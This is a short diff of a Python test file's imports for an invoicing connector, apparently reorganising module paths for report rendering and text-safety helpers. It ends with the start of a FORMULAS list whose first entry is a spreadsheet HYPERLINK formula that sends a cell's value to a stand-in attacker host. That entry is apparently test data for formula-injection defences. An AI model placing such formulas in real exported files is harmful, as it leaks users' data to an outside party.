@@ -18,13 +18,13 @@ import pytest
 from conftest import Kravsync
 from hostile_support import TODAY, contact, pull_fiken, tenant
 
-from connector.checks import check_tenant
 from connector.clock import Clock
+from connector.cycle.validate import check_tenant
 from connector.models import Invoice, InvoiceStatus
-from connector.report import render, render_csv
+from connector.render.report import render, render_csv
+from connector.render.textsafe import FORMULA_START
+from connector.render.views import report_data
 from connector.store import SqliteStore
-from connector.textsafe import FORMULA_START
-from connector.views import report_data
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")',
